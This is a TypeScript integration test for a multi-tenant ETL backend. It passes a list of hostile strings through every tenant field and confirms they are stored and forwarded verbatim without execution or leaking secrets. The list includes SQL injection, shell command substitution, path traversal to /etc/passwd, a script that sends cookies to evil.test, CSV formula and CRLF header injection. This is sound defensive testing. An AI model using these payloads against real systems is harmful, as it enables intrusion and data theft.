/** Every text a tenant can give, full of what might be run somewhere: it is stored, sent and told as it is. */
import type pg from "pg";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { connect } from "../../supabase/functions/_shared/connect.ts";
import type { Handler } from "../../supabase/functions/_shared/handler.ts";
import { deliverWebhooks } from "../../supabase/functions/deliver-webhooks/handler.ts";
import { executeRuns } from "../../supabase/functions/execute-runs/handler.ts";
import { startServer, type TestServer } from "../functions/support/server.ts";
import { freshDatabase, type TestDatabase } from "../helpers/database.ts";
import { plantedKey, plantedSigner } from "../helpers/planted.ts";

const secret = plantedKey();
const key = "a-key-of-some-length";

const payloads = [
  // SQL, out of quotes of every kind.
  "'; create table public.pwned (); --",
  "'); create table public.pwned (); --",
  '"; create table public.pwned (); --',
  "$$; create table public.pwned (); $$",
  "$body$; create table public.pwned (); $body$",
  "\\'; create table public.pwned (); --",
  "' or '1' = '1",
  "x'::regclass; create table public.pwned (); --",
  "/* */ union select null, (select string_agg(name, ',') from public.org) --",
  "\\copy x to program 'touch /tmp/pwned'",
  "\\.",
  // Format strings, of format, printf, raise and console.
  "%s %I %L %1$s %2$I %n %% %",
  "%d %x %o %j {0} {} ${7*7} #{7*7} {{7*7}} <%= 7*7 %>",
  // Placeholders.
  "<<$secret.API>>",
  "<<$$secret.API>> <<$$$secret.API>>",
  "<<$sec<<$secret.API>>ret.API>>",
  "<<$objects>> <<$run_setup>> <<$run_setup.note>> <<$nothing>>",
  "<<$secret.API",
  // Paths.
  '$.** ? (@ like_regex "^.*$")',
  '"] ? (1 == 1) ["',
  'a"."b" ? (exists(@)) ',
  "strict $[*]",
  // "*" and "**" alone are words of paths, so nothing else can be called that.
  "**.*",
  "* or **",
  "-1",
  // Markup, files, shells, links.
  "<script>fetch('https://evil.test/' + document.cookie)</script>",
  "../../../../etc/passwd",
  "$(touch /tmp/pwned) `touch /tmp/pwned` | touch /tmp/pwned",
  "=cmd|' /C calc'!A0",
  "javascript:alert(1)",
  // Lines and headers.
  "x\r\nx-injected: 1\r\n\r\nGET /other HTTP/1.1",
  "x\nx-injected: 1",
  "\u2028\u2029\u0085",
  // Whatever else texts are made of.
  "__proto__",
  "constructor",
  "toString",
  "null",
  "true",
  "1e309",
  "x \t y",
  "\u202Egnp.exe\u202C",
  "Ω≈ç√∫˜µ≤≥÷ 👩‍👩‍👧‍👦 ﷽ \u0301\u0301",
  "\u0001\u0007\u001b[31m",
  "a".repeat(250),
];

let database: TestDatabase;
let server: TestServer;
let org: string;
const lines: string[] = [];

beforeAll(async () => {
  server = await startServer(({ url, body }, response) => {
    if (url.startsWith("/hook")) {
      response.writeHead(204).end();
      return;
    }
    const n = Number(/^\/ask\/(\d+)/.exec(url)?.[1] ?? -1);
    const text = payloads[n] ?? "";
    response.writeHead(200, { "content-type": "application/json" });
    // Computed, since a member named __proto__ is none in a literal.
    response.end(
      JSON.stringify({
        list: [Object.fromEntries([...[[text, text] as const], [`${text} 2`, text] as const])],
        echo: body,
      }),
    );
  });
  database = await freshDatabase("injection", { max: 4, statement_timeout: 20_000 });
  await database.pool.query("select test_setup.set_up_people()");
  const { rows } = await database.pool.query<{ id: string }>("select test_setup.id('org acme') as id");
  org = rows[0]!.id;
}, 60_000);
afterAll(async () => {
  await server?.close();
  await database?.drop();
});

/** Runs something as one of Acme's people, in a transaction. */
async function as<T>(person: string, work: (client: pg.PoolClient) => Promise<T>): Promise<T> {
  const client = await database.pool.connect();
  try {
    await client.query("begin");
    await client.query(
      "select set_config('request.jwt.claims', jsonb_build_object('sub', test_setup.id($1))::text, true), set_config('role', 'authenticated', true)",
      [person],
    );
    const result = await work(client);
    await client.query("commit");
    return result;
  } catch (error) {
    await client.query("rollback");
    throw error;
  } finally {
    client.release();
  }
}

async function call(make: (surroundings: object) => Handler): Promise<Record<string, unknown>> {
  const env = {
    DATABASE_URL: database.url,
    ETL_FUNCTION_KEY: key,
    ETL_ALLOW_HOSTS: server.host,
    ETL_SECRETS: JSON.stringify({
      [org]: { API: secret, webhook: plantedSigner() },
      shared: { API: secret },
    }),
  };
  const handler = make({ env, connect, writeLog: (line: string) => lines.push(line) });
  const response = await handler(
    new Request("http://functions.test/", { method: "POST", headers: { authorization: `Bearer ${key}` } }),
  );
  return (await response.json()) as Record<string, unknown>;
}

const member = (name: string, value: unknown): Record<string, unknown> => Object.fromEntries([[name, value]]);
const first = async (client: pg.PoolClient, sql: string, values: unknown[]): Promise<string> =>
  (await client.query<{ id: string }>(`${sql} returning id`, values)).rows[0]!.id;

/** What a tenant would set up, every text of it the payload. */
async function setUp(n: number, text: string): Promise<string> {
  const json = JSON.stringify;
  const { activity, endpoint } = await as("adam", async (client) => {
    const type = await first(
      client,
      "insert into object_type (org_id, name, key_datapoints) values ($1, $2, array[$2])",
      [org, text],
    );
    const datapoint =
      "insert into datapoint (org_id, object_type_id, name, description) values ($1, $2, $3, $3)";
    const keyDatapoint = await first(client, datapoint, [org, type, text]);
    const asked = await first(client, datapoint, [org, type, `${text} 2`]);
    const source = await first(
      client,
      "insert into source (org_id, name, run_request_template) values ($1, $2, $3)",
      [
        org,
        text,
        json({
          method: "POST",
          url: `${server.url}/ask/${n}/<<$run_setup.note>>`,
          query: { q: "<<$run_setup.note>>", "<<$run_setup.note>>": "1" },
          body: {
            objects: "<<$objects>>",
            note: "<<$run_setup.note>>",
            mixed: "a <<$run_setup.note>> b",
            asked: "<<$datapoints>>",
            criteria: "<<$criteria>>",
          },
          response: { objects: ["list"] },
        }),
      ],
    );
    const mapping =
      "insert into object_source (org_id, source_id, object_type_id, direction, key_mapping_json) values ($1, $2, $3, $4, $5)";
    await client.query(mapping, [
      org,
      source,
      type,
      "input",
      json({ path: ["input", text], fields: member(text, [text]) }),
    ]);
    await client.query(mapping, [
      org,
      source,
      type,
      "result",
      json({ path: ["list"], fields: member(text, [text]) }),
    ]);
    await client.query(
      "insert into datapoint_source (org_id, source_id, datapoint_id, key_mapping_json) values ($1, $2, $3, $4)",
      [org, source, asked, json([`${text} 2`])],
    );
    const activity = await first(
      client,
      "insert into activity (org_id, name, activity_type, object_type_id, datapoints, source_ids, config) values ($1, $2, 'enrichment', $3, array[$4], array[$5::uuid], $6)",
      [org, text, type, `${text} 2`, source, json({ note: text, ...member(text, text) })],
    );
    await client.query(
      "insert into factor (org_id, activity_id, factor_type, object_type_id, datapoint_id, operator, value) values ($1, $2, 'option', $3, $4, 'contains', $5)",
      [org, activity, type, keyDatapoint, text],
    );
    const endpoint = await first(
      client,
      "insert into webhook_endpoint (org_id, url, description) values ($1, $2, $3)",
      [org, `${server.url}/hook/${n}?q=${encodeURIComponent(text)}`, text],
    );
    await client.query(
      "insert into workflow_schedule (org_id, name, cron, data) values ($1, $2, '@yearly', $3)",
      [org, text, json(member(text, text))],
    );
    await client.query(
      "insert into etl_api.alert_rule (org_id, name, kind, threshold) values ($1, $2, 'stuck', 1)",
      [org, text],
    );
    await client.query("update org set name = $2, settings = $3 where id = $1", [
      org,
      text,
      json({ note: text, ...member(text, text) }),
    ]);
    return { activity, endpoint };
  });
  return as("mia", async (client) => {
    const data = {
      input: member(text, [member(text, text)]),
      data: member(text, { id: activity, destination: { webhook: { endpoint } } }),
    };
    const id = await first(
      client,
      "insert into workflow_request (org_id, data, idempotency_key) values ($1, $2, $3)",
      [org, json(data), text],
    );
    // What a request would do is told, not done; what became of it is told in sentences.
    await client.query("select etl_api.dry_run($1, $2)", [org, json(data)]);
    await client.query("select * from etl_api.explain($1)", [id]);
    return id;
  });
}

test("whole flows, every text of them hostile, go through as they are", { timeout: 120_000 }, async () => {
  const requests: string[] = [];
  for (const [n, text] of payloads.entries()) requests.push(await setUp(n, text));
  for (let round = 0; round < 10; round++) {
    const claimed =
      Number((await call(executeRuns))["claimed"]) + Number((await call(deliverWebhooks))["claimed"]);
    if (claimed === 0) break;
  }
  const { pool } = database;
  for (const [n, text] of payloads.entries()) {
    const { rows } = await pool.query<Record<string, unknown>>(
      `select w.state, w.state_substate, w.errors, a.activity_key, a.config ->> 'note' as note, s.name as source, t.name as type,
         (select o.natural_key from public.object as o where o.object_type_id = a.object_type_id) as key,
         (select array_agg(v.value) from public.value as v join public.datapoint as d on d.id = v.datapoint_id
          where d.object_type_id = t.id and d.name = $2) as values,
         (select q.error from public.run_queue as q where q.activity_request_id = a.id limit 1) as error
       from public.workflow_request as w
       left join public.activity_request as a on a.workflow_request_id = w.id
       left join public.object_type as t on t.id = a.object_type_id
       left join public.source as s on s.id = a.source_ids[1]
       where w.id = $1`,
      [requests[n], `${text} 2`],
    );
    expect(rows[0], text).toEqual({
      state: "delivered",
      state_substate: null,
      errors: null,
      error: null,
      activity_key: text,
      note: text,
      source: text,
      type: text,
      // Keys are compared without case and space, so only their name is as it was.
      key: member(text, expect.any(String)),
      values: [text],
    });

    // What the third party was asked, and what the client was told.
    const asked = server.seen.find(({ url }) => url.startsWith(`/ask/${n}/`))!;
    const url = new URL(asked.url, server.url);
    expect(url.searchParams.get("q")).toBe(text);
    // The one name that a parameter cannot have: the check of requests leaves it out.
    expect([asked.url, url.searchParams.get(text)]).toEqual([asked.url, text === "__proto__" ? null : "1"]);
    const sent = JSON.parse(asked.body) as Record<string, unknown>;
    expect(sent["note"]).toBe(text);
    expect(sent["mixed"]).toBe(`a ${text} b`);
    const [object] = sent["objects"] as Record<string, string>[];
    expect(Object.keys(object!)).toContain(text);
    // Values of the type text are taken without the space around them.
    expect(Object.getOwnPropertyDescriptor(object, text)!.value.trim()).toBe(text.trim());
    expect(JSON.stringify(sent["criteria"])).toContain(JSON.stringify(text).slice(1, -1));
    const told = server.seen.find(({ url: path }) => path.startsWith(`/hook/${n}?`))!;
    const message = JSON.parse(told.body) as {
      data: { activity_key: string; objects: { values: Record<string, unknown> }[] };
    };
    expect(message.data.activity_key).toBe(text);
    expect(message.data.objects[0]!.values[`${text} 2`]).toBe(text);

    // Whoever looks reads it as it is.
    const seen = await as("vera", (client) =>
      client.query<{ name: string; description: string; text: string[] }>(
        `select a.name, f.description, array(select etl_api.explain($2)) as text
         from public.activity as a join public.factor as f on f.activity_id = a.id where a.name = $1`,
        [text, requests[n]],
      ),
    );
    expect(seen.rows).toHaveLength(1);
    expect(seen.rows[0]!.name).toBe(text);
  }
  expect(server.seen.some(({ headers }) => "x-injected" in headers)).toBe(false);
  expect(server.seen.every(({ url }) => /^\/(ask|hook)\//.test(url))).toBe(true);
});

test("nothing was run, nothing was told to anybody else, and nothing contradicts", async () => {
  const { pool } = database;
  expect((await pool.query("select to_regclass('public.pwned') as pwned")).rows).toEqual([{ pwned: null }]);
  expect((await pool.query("select * from etl_api.check_consistency()")).rows).toEqual([]);
  // The secret is in no row of any table, no message, no log; what named it in data is.
  const { rows: tables } = await pool.query<{ name: string }>(
    `select c.oid::regclass::text as name from pg_class as c
     where c.relkind in ('r', 'm') and c.relnamespace in ('public'::regnamespace, 'etl_api'::regnamespace, 'auth'::regnamespace)`,
  );
  let named = 0;
  for (const { name } of tables) {
    const { rows } = await pool.query<{ hits: number; named: number }>(
      `select count(*) filter (where strpos(t::text, $1) > 0)::int as hits, count(*) filter (where strpos(t::text, 'secret.API') > 0)::int as named from ${name} as t`,
      [secret],
    );
    expect([name, rows[0]!.hits]).toEqual([name, 0]);
    named += rows[0]!.named;
  }
  expect(named).toBeGreaterThan(10);
  expect(lines.join("\n")).not.toContain(secret);
  for (const seen of server.seen) expect(JSON.stringify(seen)).not.toContain(secret);
  // Nothing of the other org, and nothing of the engine's, was changed by any of it.
  const { rows } = await pool.query(
    `select (select count(*)::int from public.source where org_id = test_setup.id('org other')) as sources,
       (select count(*)::int from public.org) as orgs,
       (select count(*)::int from etl_api.audit_log where org_id is null and user_id is not null) as of_the_engine`,
  );
  expect(rows).toEqual([{ sources: 0, orgs: 2, of_the_engine: 0 }]);
});

test("a header made of a text with lines in it is not sent", { timeout: 60_000 }, async () => {
  const before = server.seen.length;
  const hostile = payloads.filter((text) => /[\r\n]/.test(text));
  await as("adam", async (client) => {
    const type = await first(
      client,
      "insert into object_type (org_id, name, key_datapoints) values ($1, 'headed', '{id}')",
      [org],
    );
    const datapoint = await first(
      client,
      "insert into datapoint (org_id, object_type_id, name) values ($1, $2, 'fact')",
      [org, type],
    );
    const source = await first(
      client,
      "insert into source (org_id, name, retry_policy, run_request_template) values ($1, 'headed', '{\"max_attempts\": 1}', $2)",
      [
        org,
        JSON.stringify({
          method: "GET",
          url: `${server.url}/ask/0/`,
          headers: { "x-note": "<<$run_setup.note>>", "<<$run_setup.name>>": "1" },
        }),
      ],
    );
    await client.query(
      "insert into object_source (org_id, source_id, object_type_id, direction, key_mapping_json) values ($1, $2, $3, 'input', '[\"input\", \"things\"]')",
      [org, source, type],
    );
    await client.query(
      "insert into datapoint_source (org_id, source_id, datapoint_id, key_mapping_json) values ($1, $2, $3, '\"fact\"')",
      [org, source, datapoint],
    );
    for (const [n, text] of hostile.entries())
      for (const config of [
        { note: text, name: "x-name" },
        { note: "x", name: text },
      ]) {
        const activity = await first(
          client,
          "insert into activity (org_id, name, activity_type, object_type_id, datapoints, config) values ($1, $2, 'enrichment', $3, '{fact}', $4)",
          [org, `headed ${n}`, type, JSON.stringify(config)],
        );
        await client.query("insert into workflow_request (org_id, data) values ($1, $2)", [
          org,
          JSON.stringify({ input: { things: [{ id: "a" }] }, data: { one: { id: activity } } }),
        ]);
      }
  });
  await call(executeRuns);
  expect(server.seen).toHaveLength(before);
  const { rows } = await database.pool.query<{ state: string; n: number }>(
    `select q.state, count(*)::int as n from public.run_queue as q join public.source as s on s.id = q.source_id where s.name = 'headed' group by 1`,
  );
  expect(rows).toEqual([{ state: "failed", n: hostile.length * 2 }]);
});
